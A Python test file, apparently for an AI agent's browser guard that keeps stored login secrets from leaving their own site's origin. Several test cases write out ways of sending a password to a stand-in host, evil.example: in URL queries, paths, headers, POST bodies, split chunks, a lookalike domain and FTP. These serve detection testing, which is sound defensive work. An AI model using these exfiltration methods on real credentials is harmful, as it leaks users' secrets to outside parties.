from __future__ import annotations

import base64
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest

from agent.browser.outgoing import Judge, Outgoing, as_http, origin_text
from agent.vault.audit import Trail
from agent.vault.open import Bound, RunSecrets
from agent.vault.origin import OriginPolicy
from agent.vault.secret import SecretCard

if TYPE_CHECKING:
    from collections.abc import Iterator

PASSWORD = 'p@ss "w0rd"&<é>+/=%Zq7'
GOOD, EVIL = "https://hotel.example", "https://evil.example"


class Unread(Trail):
    """No value is revealed in these tests, so no audit row is written."""

    def __init__(self) -> None:
        """Need no engine."""


def bound(slot: str, origin: str, values: dict[str, str]) -> Bound:
    policy = OriginPolicy.parse([origin])
    kind = "value" if "value" in values else "login"
    card = SecretCard("id", slot, kind, tuple(values), policy, 1, "test", "restricted", "")
    return Bound(slot, card, Unread(), values)


@pytest.fixture
def judge() -> Iterator[Judge]:
    login = bound("LOGIN", GOOD, {"username": "front-desk-7", "password": PASSWORD})
    with RunSecrets([login]) as secrets:
        yield Judge(secrets)


def request(url: str, **rest: Any) -> Outgoing:
    return Outgoing.of({"url": url, "headers": {}, **rest})


def entries(*parts: bytes) -> list[dict[str, str]]:
    return [{"bytes": base64.b64encode(part).decode()} for part in parts]


def test_anything_may_go_to_the_secrets_own_origin(judge: Judge) -> None:
    sent = request(f"{GOOD}/login", postData=f"password={quote(PASSWORD)}", hasPostData=True)
    assert judge.judge(sent).may_pass


@pytest.mark.parametrize(
    "sent",
    [
        request(f"{EVIL}/?v={quote(PASSWORD)}"),
        request(f"{EVIL}/?v={quote(quote(PASSWORD))}"),
        request(f"{EVIL}/{PASSWORD}"),
        request(f"{EVIL}/", headers={"X-Note": quote(PASSWORD)}),
        request(f"{EVIL}/", postData=PASSWORD, hasPostData=True),
        request(f"{EVIL}/", postDataEntries=entries(PASSWORD.encode()), hasPostData=True),
        request(
            f"{EVIL}/",
            postDataEntries=entries(PASSWORD.encode()[:5], PASSWORD.encode()[5:]),
            hasPostData=True,
        ),
        request(f"http://{GOOD.partition('://')[2]}/?v={quote(PASSWORD)}"),
        request(f"{GOOD}:8443/?v={quote(PASSWORD)}"),
        request(f"https://hotel.example.evil.example/?v={quote(PASSWORD)}"),
        request(f"ftp://evil.example/{quote(PASSWORD)}"),
    ],
)
def test_a_value_on_its_way_elsewhere_is_seen(judge: Judge, sent: Outgoing) -> None:
    verdict = judge.judge(sent)
    assert not verdict.may_pass
    assert verdict.labels == ("LOGIN.password",)
    assert PASSWORD not in f"{verdict}"


def test_a_request_without_a_value_may_go_anywhere(judge: Judge) -> None:
    assert judge.judge(request(f"{EVIL}/app.js", headers={"Accept": "*/*"})).may_pass


def test_a_body_nobody_can_read_passes_until_something_was_typed(judge: Judge) -> None:
    sent = request(f"{EVIL}/", hasPostData=True, postDataEntries=[{}])
    assert judge.judge(sent).may_pass
    judge.typed("LOGIN")
    assert not judge.judge(sent).may_pass
    assert judge.judge(request(f"{GOOD}/", hasPostData=True)).may_pass


@pytest.mark.parametrize("url", ["data:text/html,x", "blob:https://evil.example/1", "about:blank"])
def test_what_never_leaves_the_browser_is_not_looked_at(judge: Judge, url: str) -> None:
    assert judge.slots_kept_from(url) == frozenset()


def test_each_secret_has_its_own_places() -> None:
    first = bound("FIRST", GOOD, {"value": "the first value"})
    second = bound("SECOND", "https://bank.example", {"value": "the second value"})
    with RunSecrets([first, second]) as secrets:
        judge = Judge(secrets)
        sent = request(f"{GOOD}/", postData="the first value the second value", hasPostData=True)
        assert judge.judge(sent).labels == ("SECOND.value",)


def test_only_the_origin_of_an_address_is_shown() -> None:
    assert origin_text(f"{EVIL}/path?query#fragment") == EVIL
    assert origin_text("not a url") == "an address without an origin"


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("wss://h.example/a", "https://h.example/a"),
        ("ws://127.0.0.1:80", "http://127.0.0.1:80"),
        ("https://h", "https://h"),
    ],
)
def test_a_socket_has_the_origin_of_its_http_address(url: str, expected: str) -> None:
    assert as_http(url) == expected


def test_a_user_name_is_stopped_without_an_accusation(judge: Judge) -> None:
    verdict = judge.judge(request(f"{EVIL}/?user=front-desk-7"))
    assert not verdict.may_pass
    assert verdict.labels == ()


def test_a_sockets_message_is_judged_like_a_request(judge: Judge) -> None:
    assert judge.judge_message(EVIL, b"hello").may_pass
    assert judge.judge_message(EVIL, PASSWORD.encode()).labels == ("LOGIN.password",)
    assert judge.judge_message(GOOD, PASSWORD.encode()).may_pass
    judge.typed("LOGIN")
    assert not judge.judge_message(EVIL, b"hello").may_pass


def test_a_mailbox_that_has_the_accounts_own_name_stops_no_sign_in() -> None:
    """Its values are never typed; the same name as a login's is still kept from other sites."""
    login = bound("LOGIN", GOOD, {"username": "ann@hotel.example", "password": PASSWORD})
    policy = OriginPolicy.parse(["imaps://mail.hotel.example"])
    values = {"username": "ann@hotel.example", "password": "another-canary"}
    card = SecretCard("id", "box", "mailbox", tuple(values), policy, 1, "test", "restricted", "")
    with RunSecrets([login, Bound("MAILBOX", card, Unread(), values)]) as secrets:
        judge = Judge(secrets)
        sent = {"postData": "user=ann%40hotel.example", "hasPostData": True}
        assert judge.judge(request(f"{GOOD}/login", **sent)).may_pass
        assert not judge.judge(request(f"{EVIL}/login", **sent)).may_pass
